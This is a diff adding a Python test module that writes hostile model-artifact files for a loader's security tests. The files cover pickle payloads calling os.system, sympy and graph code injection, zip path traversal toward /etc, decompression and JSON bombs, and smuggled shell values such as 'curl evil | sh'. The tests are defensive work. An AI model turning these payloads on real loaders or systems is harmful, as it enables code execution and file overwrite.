@@ -1,0 +1,713 @@
+"""The attacks: each a function that writes a hostile file, and the error in which reading it must end."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import io
+import json
+import os
+import pickle  # writing only
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+from tests.unit.handmade import Handmade, golden, plan
+from toolchain import zip_records
+from toolchain.container import ROOT, Container
+from toolchain.engine_info import ENGINE_FIELD, FIELDS
+from toolchain.errors import MalformedArtifactError, TrtcrossError, UntrustedError, UsageError
+from toolchain.manifest import GRAPH_ENTRY, MANIFEST_ENTRY
+
+_LOCAL, _CENTRAL = zip_records.LOCAL_SIZE, 46
+
+
+@dataclass(frozen=True)
+class Attack:
+    write: Callable[[Path], Any]
+    error: type[TrtcrossError]
+
+
+ATTACKS: dict[str, Attack] = {}
+
+
+def attack(error: type[TrtcrossError]) -> Callable[[Callable[[Path], Any]], Callable[[Path], Any]]:
+    """Enters a function that writes a hostile file into the table, under its own name."""
+
+    def enter(write: Callable[[Path], Any]) -> Callable[[Path], Any]:
+        ATTACKS[write.__name__] = Attack(write, error)
+        return write
+
+    return enter
+
+
+def many(error: type[TrtcrossError], prefix: str, variants: dict[str, Callable[[Path], Any]]) -> None:
+    ATTACKS.update({f"{prefix}_{name}": Attack(write, error) for name, write in variants.items()})
+
+
+# --- code in the file -------------------------------------------------------------------------------------------
+
+
+class _Payload:
+    def __reduce__(self) -> Any:
+        return os.system, ("echo hurt",)
+
+
+PICKLE = pickle.dumps(_Payload())
+
+
+def _pickle_text(data: bytes) -> str:
+    return base64.b64encode(data).decode()
+
+
+def _with_fields(**values: str) -> Callable[[Path], Any]:
+    """An artifact whose engine info says something else."""
+
+    def write(path: Path) -> None:
+        made = Handmade()
+        for name, value in values.items():
+            made.nodes[0]["inputs"][1 + FIELDS.index(name)]["arg"]["as_string"] = value
+        made.write(path)
+
+    return write
+
+
+def _global_pickle(module: str, name: str, argument: str) -> bytes:
+    """``module.name.__new__(module.name, argument)``, as the metadata of a sympy expression would be written."""
+
+    def text(value: str) -> bytes:
+        return b"\x8c" + bytes([len(value)]) + value.encode()
+
+    return b"\x80\x04" + text(module) + text(name) + b"\x93" + text(argument) + b"\x85\x81."
+
+
+many(
+    UntrustedError,
+    "metadata",
+    {
+        "pickle_payload": _with_fields(metadata=_pickle_text(PICKLE)),
+        "pickle_protocol_0": _with_fields(metadata=_pickle_text(b"cos\nsystem\n(S'echo hurt'\ntR.")),
+        "sympify_through_max": _with_fields(
+            metadata=_pickle_text(
+                _global_pickle("sympy.functions.elementary.miscellaneous", "Max", "__import__('os').system('x')")
+            )
+        ),
+        "builtin_by_stack_global": _with_fields(metadata=_pickle_text(_global_pickle("builtins", "eval", "x"))),
+        "pickle_bomb": _with_fields(metadata=_pickle_text(b"\x80\x04" + b"]\x94" * 100_000 + b"\x8e" + b"\xff" * 8)),
+        "not_base64": _with_fields(metadata="%%%"),
+    },
+)
+
+
+@attack(UntrustedError)
+def pickled_sample_inputs(path: Path) -> None:
+    Handmade(entries={"data/sample_inputs/model.pt": PICKLE}).write(path)
+
+
+def _payload_config(kind: str, **changes: Any) -> Callable[[Path], Any]:
+    prefix, config = {
+        "weights": ("weight_0", "data/weights/model_weights_config.json"),
+        "constants": ("tensor_0", "data/constants/model_constants_config.json"),
+    }[kind]
+    payload = {"path_name": prefix, "is_param": True, "use_pickle": False, "tensor_meta": {}, **changes}
+    document = json.dumps({"config": {"w": payload}}).encode()
+    return lambda path: Handmade(entries={f"data/{kind}/{prefix}": PICKLE, config: document}).write(path)
+
+
+many(
+    UntrustedError,
+    "pickled",
+    {
+        "weights": _payload_config("weights", use_pickle=True),
+        "weights_without_saying": _payload_config("weights", use_pickle=None),
+        "constants": _payload_config("constants", use_pickle=True),
+        "script_object": _payload_config("constants", path_name="custom_obj_0"),
+        "path_outside": _payload_config("weights", path_name="weight_0/../../../etc/passwd"),
+    },
+)
+many(
+    UntrustedError,
+    "entry",
+    {
+        "compiled_code": lambda path: Handmade(entries={"data/aotinductor/model/x.so": b"\x7fELF"}).write(path),
+        "pickled_object": lambda path: Handmade(entries={"data/constants/custom_obj_0": PICKLE}).write(path),
+        "unknown": lambda path: Handmade(entries={"data/new_in_some_torch": b""}).write(path),
+    },
+)
+
+
+def _with_graph(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path], Any]:
+    def write(path: Path) -> None:
+        made = Handmade()
+        change(made.graph or {})
+        made.write(path)
+
+    return write
+
+
+def _size(text: str) -> Callable[[dict[str, Any]], None]:
+    def change(graph: dict[str, Any]) -> None:
+        sizes = graph["graph_module"]["graph"]["tensor_values"]["x"]["sizes"]
+        sizes[0] = {"as_expr": {"expr_str": text, "hint": None}}
+
+    return change
+
+
+def _call(target: Any) -> Callable[[dict[str, Any]], None]:
+    def change(graph: dict[str, Any]) -> None:
+        argument = {"name": "", "arg": {"as_string": "echo hurt"}, "kind": 1}
+        node = {"target": target, "inputs": [argument], "outputs": [], "metadata": {}, "name": "n"}
+        graph["graph_module"]["graph"]["nodes"].append(node)
+
+    return change
+
+
+def _enum_spec(escape: bool = False) -> str:
+    context = json.dumps({"__enum__": True, "fqn": "antigravity:X", "name": "Y"})
+    if escape:
+        context = context.replace("__enum__", "\\u005f_enum__")
+    return json.dumps([1, {"type": "builtins.dict", "context": context, "children_spec": []}])
+
+
+_FACTORY_SPEC = json.dumps(
+    [
+        1,
+        {
+            "type": "collections.defaultdict",
+            "context": {"default_factory_module": "os", "default_factory_name": "system", "dict_context": []},
+            "children_spec": [],
+        },
+    ]
+)
+
+many(
+    UntrustedError,
+    "graph",
+    {
+        "sympy_import": _with_graph(_size("__import__('os').system('echo hurt')")),
+        "sympy_import_without_dots": _with_graph(_size("__import__('antigravity')")),
+        "sympy_attribute": _with_graph(_size("s0.__class__")),
+        "sympy_lambda": _with_graph(_size("(lambda: 0)()")),
+        "sympy_text": _with_graph(_size("Max('__import__(1)', 1)")),
+        "sympy_power_bomb": _with_graph(_size("9**9**9**9")),
+        "sympy_nested_powers": _with_graph(_size("Pow(" * 40 + "s0" + ", 99)" * 40)),
+        "sympy_deep": _with_graph(_size("-" * 9_000 + "1")),
+        "sympy_huge": _with_graph(_size("s0+" * 10**6 + "1")),
+        "guards_code": _with_graph(lambda graph: graph.update(guards_code=["__import__('os')"])),
+        "calls_os_system": _with_graph(_call("torch.os.system")),
+        "calls_load_library": _with_graph(_call("torch.ops.load_library")),
+        "calls_load_library_globals": _with_graph(_call("torch.ops.load_library.__globals__.clear")),
+        "calls_torch_load": _with_graph(_call("torch.load")),
+        "calls_methodcaller": _with_graph(_call("_operator.methodcaller")),
+        "calls_from_file": _with_graph(_call("torch.ops.aten.from_file.default")),
+        "calls_extension": _with_graph(_call("#extension")),
+        "calls_a_number": _with_graph(_call(3)),
+        "metadata_names_code": _with_graph(
+            lambda graph: graph["graph_module"]["graph"]["nodes"][0].update(metadata={"torch_fn": "f;torch.os.system"})
+        ),
+        "signature_imports": _with_graph(lambda graph: graph.update(signature={"in_spec": _enum_spec()})),
+    },
+)
+
+
+def _with_manifest(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path], Any]:
+    return lambda path: Handmade(edit_manifest=change).write(path)
+
+
+many(
+    UntrustedError,
+    "call",
+    {
+        "imports_a_module": _with_manifest(lambda m: m["call"].update(in_spec=_enum_spec())),
+        "imports_with_an_escape": _with_manifest(lambda m: m["call"].update(out_spec=_enum_spec(escape=True))),
+        "imports_a_factory": _with_manifest(lambda m: m["call"].update(in_spec=_FACTORY_SPEC)),
+        "is_deep": _with_manifest(lambda m: m["call"].update(in_spec="[" * 100_000)),
+    },
+)
+
+# --- the zip ----------------------------------------------------------------------------------------------------
+
+
+def archive(entries: list[tuple[str, bytes]], root: str = ROOT) -> bytes:
+    """A zip of our own form, with whatever names."""
+    data, central = b"", b""
+    for name, content in entries:
+        head = (f"{root}/{name}".encode(), zlib.crc32(content), len(content))
+        central += zip_records.central_record(*head, len(data))
+        data += zip_records.local_header(*head) + content
+    return data + central + zip_records.end_records(zip_records.Directory(len(data), len(central), len(entries)))
+
+
+def _named(*names: str) -> Callable[[Path], Any]:
+    return lambda path: path.write_bytes(archive([(name, b"x") for name in names]))
+
+
+many(
+    MalformedArtifactError,
+    "name",
+    {
+        "traversal": _named("../../etc/cron.d/x"),
+        "traversal_backslash": _named("..\\..\\x"),
+        "absolute": lambda path: path.write_bytes(archive([("etc/passwd", b"")], root="")),
+        "drive": lambda path: path.write_bytes(archive([("x", b"")], root="C:")),
+        "device": _named("data/NUL"),
+        "device_with_suffix": _named("data/com1.json"),
+        "stream": _named("data/x:hidden"),
+        "newline": _named("a\nb"),
+        "escape_sequence": _named("\x9b31m"),
+        "empty": _named("data//x"),
+        "folder": _named("data/"),
+        "trailing_dot": _named("data/x."),
+        "nul_byte": _named("a\0b"),
+        "twice": _named("a", "a"),
+        "twice_but_for_case": _named("models/model.json", "models/MODEL.json"),
+        "very_long": _named("x" * 60_000),
+        "two_roots": lambda path: path.write_bytes(_two_roots()),
+    },
+)
+
+
+def _two_roots() -> bytes:
+    data = archive([("a", b""), ("b", b"")])
+    return data.replace(b"artifact/b", b"artifice/b")
+
+
+def _good(path: Path) -> bytes:
+    return Handmade().write(path).read_bytes()
+
+
+def _patched(name: str, local: bytes | None, central: bytes | None, at: int) -> Callable[[Path], Any]:
+    """A good artifact, of which bytes in the headers of an entry are overwritten; ``at`` counts from "version"."""
+
+    def write(path: Path) -> None:
+        data = bytearray(_good(path))
+        full = f"{ROOT}/{name}".encode()
+        if local is not None:
+            start = data.index(full) - _LOCAL + 4 + at
+            data[start : start + len(local)] = local
+        if central is not None:
+            start = data.rindex(full) - _CENTRAL + 6 + at
+            data[start : start + len(central)] = central
+        path.write_bytes(data)
+
+    return write
+
+
+_FLAGS, _METHOD, _CRC, _SIZE = 2, 4, 10, 14
+many(
+    MalformedArtifactError,
+    "headers",
+    {
+        "local_name": lambda path: path.write_bytes(
+            _good(path).replace(b"artifact/byteorder", b"artifact/byteordex", 1)
+        ),
+        "local_size": _patched("byteorder", struct.pack("<2L", 1, 1), None, _SIZE),
+        "local_crc": _patched("byteorder", b"\0\0\0\0", None, _CRC),
+        "local_method": _patched("byteorder", b"\x08\0", None, _METHOD),
+        "both_crc_of_the_manifest": _patched(MANIFEST_ENTRY, b"\1\2\3\4", b"\1\2\3\4", _CRC),
+        "both_compressed": _patched("byteorder", b"\x08\0", b"\x08\0", _METHOD),
+        "both_encrypted": _patched("byteorder", b"\x01\0", b"\x01\0", _FLAGS),
+        "both_with_a_descriptor": _patched("byteorder", b"\x08\0", b"\x08\0", _FLAGS),
+        "size_past_the_end": _patched("byteorder", b"\xf0" * 8, b"\xf0" * 8, _SIZE),
+        "zip64_without_its_field": _patched("byteorder", b"\xff" * 8, b"\xff" * 8, _SIZE),
+        "extra_field": _patched("byteorder", None, b"\x04\0", _SIZE + 10),
+    },
+)
+
+
+@attack(MalformedArtifactError)
+def overlapping_entries(path: Path) -> None:
+    # Both records point at one local header.
+    data = archive([("a", b"x"), ("a", b"x")])
+    second = data.rindex(b"PK\1\2")
+    path.write_bytes(data[: second + 42] + b"\0\0\0\0" + data[second + 46 :])
+
+
+@attack(MalformedArtifactError)
+def nested_entries(path: Path) -> None:
+    # The second entry's header lies in the data of the first.
+    inner = zip_records.local_header(b"artifact/b", 0, 0)
+    outer = zip_records.local_header(b"artifact/a", zlib.crc32(inner), len(inner))
+    central = zip_records.central_record(b"artifact/a", zlib.crc32(inner), len(inner), 0)
+    central += zip_records.central_record(b"artifact/b", 0, 0, len(outer))
+    end = zip_records.end_records(zip_records.Directory(len(outer + inner), len(central), 2))
+    path.write_bytes(outer + inner + central + end)
+
+
+many(
+    MalformedArtifactError,
+    "bytes",
+    {
+        "before": lambda path: path.write_bytes(b"MZ" * 50 + _good(path)),
+        "behind": lambda path: path.write_bytes(_good(path) + b"tail"),
+        "second_archive_behind": lambda path: path.write_bytes(_good(path) + archive([("a", b"")])),
+        "in_a_comment": lambda path: path.write_bytes(_good(path)[:-2] + b"\x04\0tail"),
+        "between": lambda path: path.write_bytes(_with_gap(_good(path))),
+        "truncated": lambda path: path.write_bytes(_good(path)[:-500]),
+        "truncated_to_its_end_record": lambda path: path.write_bytes(_good(path)[-22:]),
+        "none": lambda path: path.write_bytes(b""),
+        "not_a_zip": lambda path: path.write_bytes(b"\x7fELF" + bytes(5000)),
+    },
+)
+
+
+def _with_gap(data: bytes) -> bytes:
+    """Ten bytes between the entries and their directory, the end record told of them."""
+    start = data.index(b"PK\1\2")
+    (offset,) = struct.unpack_from("<L", data, len(data) - 6)
+    return data[:start] + b"0123456789" + data[start:-6] + struct.pack("<L", offset + 10) + data[-2:]
+
+
+@attack(MalformedArtifactError)
+def zip_bomb(path: Path) -> None:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
+        file.writestr(f"{ROOT}/{GRAPH_ENTRY}", bytes(50 * 2**20))
+        file.writestr(f"{ROOT}/{MANIFEST_ENTRY}", bytes(50 * 2**20))
+
+
+@attack(MalformedArtifactError)
+def huge_entry_count(path: Path) -> None:
+    record = zip_records.central_record(b"artifact/a", 0, 0, 0)
+    central, first = record * 300_000, zip_records.local_header(b"artifact/a", 0, 0)
+    path.write_bytes(
+        first + central + zip_records.end_records(zip_records.Directory(len(first), len(central), 300_000))
+    )
+
+
+def _end64(path: Path, offset: int, size: int, count: int) -> None:
+    directory = zip_records.Directory(2**40, size, count)  # so far away that it is written in 64 bits
+    end = bytearray(zip_records.end_records(directory))
+    struct.pack_into("<Q", end, 48, offset)
+    path.write_bytes(bytes(end))
+
+
+many(
+    MalformedArtifactError,
+    "zip64",
+    {
+        "directory_beyond_the_file": lambda path: _end64(path, 2**63, 2**63, 1),
+        "count_of_2_to_the_64": lambda path: _end64(path, 0, 0, 2**64 - 1),
+        "directory_of_4_gib": lambda path: _sparse_directory(path),
+    },
+)
+
+
+def _sparse_directory(path: Path) -> None:
+    size = 2**32 if os.name == "posix" else 2**25  # a hole costs nothing here
+    end = zip_records.end_records(zip_records.Directory(0, size, 5))
+    with path.open("wb") as file:
+        file.truncate(size)
+        file.seek(size)
+        file.write(end)
+
+
+# --- JSON and the manifest --------------------------------------------------------------------------------------
+
+
+def _manifest_text(change: Callable[[bytes], bytes]) -> Callable[[Path], Any]:
+    """A good artifact with another manifest text, its CRC right."""
+
+    def write(path: Path) -> None:
+        container = Container(Handmade().write(path))
+        entries = [(name, container.read(name)) for name in container.entries]
+        container.close()
+        path.write_bytes(archive([(n, change(data) if n == MANIFEST_ENTRY else data) for n, data in entries]))
+
+    return write
+
+
+def _setting(text: bytes) -> Callable[[Path], Any]:
+    return _manifest_text(lambda data: data.replace(b'"golden": 1', b'"golden": ' + text, 1))
+
+
+many(
+    MalformedArtifactError,
+    "manifest",
+    {
+        "deep": _setting(b"[" * 10**6),
+        "deep_but_parsable": _setting(b"[" * 300 + b"]" * 300),
+        "key_twice": _manifest_text(lambda data: data.replace(b'"install"', b'"created": 1, "install"')),
+        "nan": _setting(b"NaN"),
+        "infinity": _setting(b"-Infinity"),
+        "huge_float": _setting(b"1e999"),
+        "huge_integer": _setting(b"9" * 5000),
+        "very_huge_integer": _setting(b"9" * 7_000_000),
+        "huge_text": _setting(b'"' + b"x" * 9_000_000 + b'"'),
+        "many_values": _setting(b"[" + b"{}," * 2_000_000 + b"{}]"),
+        "not_utf8": _setting(b'"\xff\xfe"'),
+        "surrogate": _setting(b'"\\ud800"'),
+        "escape_sequence": _with_manifest(lambda m: m["model"].update(name="\x1b]0;owned\x07")),
+        "a_list": _manifest_text(lambda data: b"[]"),
+        "empty": _manifest_text(lambda data: b""),
+        "unknown_field": _with_manifest(lambda m: m.update(hook="os.system")),
+        "missing_field": _with_manifest(lambda m: m.pop("call")),
+        "no_version": _with_manifest(lambda m: m.pop("schema_version")),
+        "newer_version": _with_manifest(lambda m: m.update(schema_version=2)),
+        "version_is_true": _with_manifest(lambda m: m.update(schema_version=True)),
+        "version_is_a_float": _with_manifest(lambda m: m.update(schema_version=1.0)),
+        "text_for_a_number": _with_manifest(lambda m: m["coverage"].update(operators="1")),
+        "negative_size": _with_manifest(lambda m: m["engines"][0].update(size=-1)),
+        "shell_in_a_version": _with_manifest(lambda m: m["producer"].update(torch="2.14; curl evil | sh")),
+        "shell_in_a_package": _with_manifest(lambda m: m["producer"]["tensorrt"].update(name="x && evil")),
+        "gpu_that_is_none": _with_manifest(lambda m: m["target"].update(compute_capabilities=["sm_\uff18\uff19"])),
+        "entry_not_listed": _with_manifest(lambda m: m["files"].pop("byteorder")),
+        "entry_missing": _with_manifest(lambda m: m["files"].update(x=m["files"]["byteorder"])),
+        "wrong_digest": _with_manifest(lambda m: m["files"]["byteorder"].update(sha256="0" * 64)),
+        "wrong_size": _with_manifest(lambda m: m["files"]["byteorder"].update(size=7)),
+        "says_another_name": _with_manifest(lambda m: m["engines"][0].update(name="other")),
+        "says_another_node": _with_manifest(lambda m: m["engines"][0].update(node="other")),
+        "says_another_release": _with_manifest(lambda m: m["target"].update(runtime="1.7.0.1")),
+        "says_other_gpus": _with_manifest(lambda m: m["target"].update(compute_capabilities=["sm_90"])),
+        "says_another_backend": _with_manifest(lambda m: m["target"].update(backend="tensorrt")),
+        "says_another_platform": _with_manifest(lambda m: m["target"].update(platform="linux-x86_64")),
+        "says_other_bindings": _with_manifest(lambda m: m["engines"][0]["inputs"][0].update(name="y")),
+        "says_an_output_allocator": _with_manifest(lambda m: m["engines"][0].update(requires_output_allocator=True)),
+        "says_no_golden": _with_manifest(lambda m: m.update(golden=None)),
+    },
+)
+
+
+@attack(MalformedArtifactError)
+def manifest_of_another_file(path: Path) -> None:
+    other = Handmade(engines=[plan(b"ENGINE")]).write(path)
+    container = Container(other)
+    manifest = container.read(MANIFEST_ENTRY)
+    container.close()
+    _manifest_text(lambda data: manifest)(path)
+
+
+@attack(MalformedArtifactError)
+def graph_that_is_no_graph(path: Path) -> None:
+    Handmade(graph={"graph_module": []}, engines=[], edit_manifest=lambda m: m.update(engines=[])).write(path)
+
+
+@attack(MalformedArtifactError)
+def graph_of_many_values(path: Path) -> None:
+    made = Handmade()
+    (made.graph or {})["x"] = [{}] * 1_500_000
+    made.write(path)
+
+
+@attack(MalformedArtifactError)
+def graph_of_a_huge_text(path: Path) -> None:
+    made = Handmade()
+    (made.graph or {})["x"] = "x" * 40_000_000
+    made.write(path)
+
+
+@attack(MalformedArtifactError)
+def graph_that_is_deep(path: Path) -> None:
+    deep: list[Any] = []
+    for _ in range(300):
+        deep = [deep]
+    _with_graph(lambda graph: graph.update(x=deep))(path)
+
+
+# As much as is read at all: what bounds time and memory, for nothing in it is malformed.
+
+
+@attack(UntrustedError)
+def graph_of_as_many_values_as_are_read(path: Path) -> None:
+    _with_graph(lambda graph: graph.update(x=[{"": 0}] * 249_000, guards_code=["1"]))(path)
+
+
+@attack(UntrustedError)
+def graph_as_long_as_is_read(path: Path) -> None:
+    made = Handmade(engines=[])
+    text = json.dumps(
+        {**(made.graph or {}), "guards_code": ["1", "\U0001f4a3"], "x": "x" * 16_770_000}, ensure_ascii=False
+    )
+    files = {GRAPH_ENTRY: text.encode()}
+    container = Container(made.write(path))
+    entries = [(name, files.get(name) or container.read(name)) for name in container.entries]
+    container.close()
+    manifest = json.loads(dict(entries)[MANIFEST_ENTRY])
+    digest = hashlib.sha256(files[GRAPH_ENTRY]).hexdigest()
+    manifest["files"][GRAPH_ENTRY] = {"sha256": digest, "size": len(files[GRAPH_ENTRY])}
+    files[MANIFEST_ENTRY] = json.dumps(manifest).encode()
+    path.write_bytes(archive([(name, files.get(name, data)) for name, data in entries]))
+
+
+many(
+    MalformedArtifactError,
+    "manifest_limit",
+    {
+        "values": _setting(b"[" + b'{"":0},' * 120_000 + b'{}], "golden": 2'),
+        "length": _setting(b'"\xf0\x9f\x92\xa3' + b"x" * 8_000_000 + b'", "golden": 2'),
+    },
+)
+
+# --- engines ----------------------------------------------------------------------------------------------------
+
+
+def _span(**changes: int) -> Callable[[Path], Any]:
+    def change(manifest: dict[str, Any]) -> None:
+        span = manifest["engines"][0]["base64"]
+        span.update({name: span[name] + value for name, value in changes.items()})
+
+    return _with_manifest(change)
+
+
+def _overlapping_spans(manifest: dict[str, Any]) -> None:
+    manifest["engines"][1]["base64"] = manifest["engines"][0]["base64"]
+
+
+many(
+    MalformedArtifactError,
+    "span",
+    {
+        "outside": _span(offset=10**9),
+        "beyond_64_bits": _span(offset=10**19),
+        "misaligned": _span(offset=1),
+        "early": _span(offset=-4),
+        "longer": _span(length=4),
+        "in_another_entry": _with_manifest(lambda m: m["engines"][0]["base64"].update(entry="byteorder")),
+        "overlapping": lambda path: Handmade(engines=[plan(), plan()], edit_manifest=_overlapping_spans).write(path),
+        "size_lie": _with_manifest(lambda m: m["engines"][0].update(size=2**62)),
+    },
+)
+
+
+def _engine_text(change: Callable[[bytes], bytes], filler: bytes = b"abc") -> Callable[[Path], Any]:
+    """A good artifact whose engine's base64 has become another text of the same length."""
+
+    def write(path: Path) -> None:
+        text = base64.b64encode(plan(filler))
+        changed = change(text)
+        assert len(changed) == len(text) and changed != text
+        container = Container(Handmade(engines=[plan(filler)]).write(path))
+        entries = [(name, container.read(name)) for name in container.entries]
+        container.close()
+        path.write_bytes(archive([(name, data.replace(text, changed)) for name, data in entries]))
+
+    return write
+
+
+many(
+    MalformedArtifactError,
+    "base64",
+    {
+        "line_break": _engine_text(lambda text: text[:4] + b"\n" + text[5:]),
+        "space": _engine_text(lambda text: text[:4] + b" " + text[5:]),
+        "urlsafe": _engine_text(lambda text: text[:4] + b"-_" + text[6:]),
+        "no_padding": _engine_text(lambda text: text.replace(b"=", b"A")),
+        "padding_in_the_middle": _engine_text(lambda text: text[:4] + b"AA==" + text[8:]),
+        "more_padding": _engine_text(lambda text: text[:-4] + b"===="),
+        "non_canonical_tail": _engine_text(lambda text: text[:-3] + bytes([text[-3] + 1]) + b"=="),
+        "quote": _engine_text(lambda text: text[:4] + b'"' + text[5:]),
+        "nul": _engine_text(lambda text: text[:4] + b"\0" + text[5:]),
+        "another_engine": _engine_text(lambda text: base64.b64encode(plan(b"ABC"))),
+    },
+)
+
+
+@attack(MalformedArtifactError)
+def engines_swapped_within_the_file(path: Path) -> None:
+    def swap(manifest: dict[str, Any]) -> None:
+        first, second = manifest["engines"]
+        first["base64"], second["base64"] = second["base64"], first["base64"]
+
+    Handmade(engines=[plan(b"a"), plan(b"b")], edit_manifest=swap).write(path)
+
+
+@attack(MalformedArtifactError)
+def digests_swapped_within_the_file(path: Path) -> None:
+    def swap(manifest: dict[str, Any]) -> None:
+        first, second = manifest["engines"]
+        first["sha256"], second["sha256"] = second["sha256"], first["sha256"]
+
+    Handmade(engines=[plan(b"a"), plan(b"b")], edit_manifest=swap).write(path)
+
+
+many(
+    MalformedArtifactError,
+    "plan",
+    {
+        "is_no_plan": lambda path: Handmade(engines=[b"x" * 100]).write(path),
+        "is_empty": lambda path: Handmade(engines=[b""]).write(path),
+        "is_truncated": lambda path: Handmade(engines=[plan()[:40]]).write(path),
+        "says_another_size": lambda path: Handmade(engines=[plan() + b"more"]).write(path),
+        "is_of_tensorrt": lambda path: Handmade(engines=[b"ftrt" + plan()[4:]]).write(path),
+    },
+)
+
+
+def _field_list(change: Callable[[list[Any]], Any]) -> Callable[[Path], Any]:
+    return _with_graph(lambda graph: change(graph["graph_module"]["graph"]["nodes"][0]["inputs"]))
+
+
+many(
+    MalformedArtifactError,
+    "fields",
+    {
+        "too_few": _field_list(lambda fields: fields.pop()),
+        "too_many": _field_list(lambda fields: fields.append(fields[-1])),
+        "nothing_but_the_engine": _field_list(lambda fields: fields.__delitem__(slice(6, None))),
+        "no_tensors": _field_list(lambda fields: fields[0].update(arg={"as_int": 1})),
+        "a_number": _field_list(lambda fields: fields[7].update(arg={"as_string": 1})),
+        "of_another_abi": _with_fields(abi_version="6"),
+        "of_no_abi": _with_fields(abi_version="9" * 5000),
+        "of_another_numeral": _with_fields(abi_version="\uff11\uff10"),
+        "device": _with_fields(device="0%8%0"),
+        "device_number": _with_fields(device="9" * 5000 + "%8%0%0%x"),
+        "flag": _with_fields(hardware_compatible="yes"),
+        "binding_with_alias": _with_fields(input_binding_names="x@y"),
+        "alias": _with_fields(aliased_io="a@b"),
+        "platform": _with_fields(target_platform="win_x86_64"),
+    },
+)
+
+
+@attack(MalformedArtifactError)
+def placeholder_hidden_from_the_manifest(path: Path) -> None:
+    made = Handmade()
+    node = json.loads(json.dumps(made.nodes[0]))
+    node["inputs"][1 + ENGINE_FIELD]["arg"]["as_string"] = base64.b64encode(plan()).decode()
+    made.nodes.append(node)
+    made.write(path)
+
+
+# --- golden -----------------------------------------------------------------------------------------------------
+
+many(
+    MalformedArtifactError,
+    "golden",
+    {
+        "wrong_dtype": lambda path: Handmade(golden=golden("F16")).write(path),
+        "wrong_shape": lambda path: Handmade(golden=golden(shape=(2,))).write(path),
+        "other_rank": lambda path: Handmade(golden=golden(shape=(1, 1))).write(path),
+        "huge_header": lambda path: Handmade(golden=struct.pack("<Q", 2**63) + golden()[8:]).write(path),
+        "no_header": lambda path: Handmade(golden=b"abc").write(path),
+        "header_is_a_pickle": lambda path: Handmade(golden=struct.pack("<Q", len(PICKLE)) + PICKLE).write(path),
+        "many_samples": lambda path: Handmade(edit_manifest=lambda m: m["golden"].update(samples=10**15)).write(path),
+    },
+)
+
+# --- no file ----------------------------------------------------------------------------------------------------
+
+many(
+    UsageError,
+    "path",
+    {
+        "is_missing": lambda path: None,
+        "is_a_folder": lambda path: path.mkdir(),
+        **({"is_a_pipe": lambda path: os.mkfifo(path)} if hasattr(os, "mkfifo") else {}),
+    },
+)
+
+
+@attack(MalformedArtifactError)
+def plain_program(path: Path) -> None:
+    path.write_bytes(archive([(GRAPH_ENTRY, b'{"graph_module": {}}'), ("archive_format", b"pt2")]))
+
+
+@attack(MalformedArtifactError)
+def foreign_program(path: Path) -> None:
+    made, buffer = Handmade(), io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as file:
+        file.writestr(f"model/{GRAPH_ENTRY}", json.dumps(made.graph))
+    path.write_bytes(buffer.getvalue())
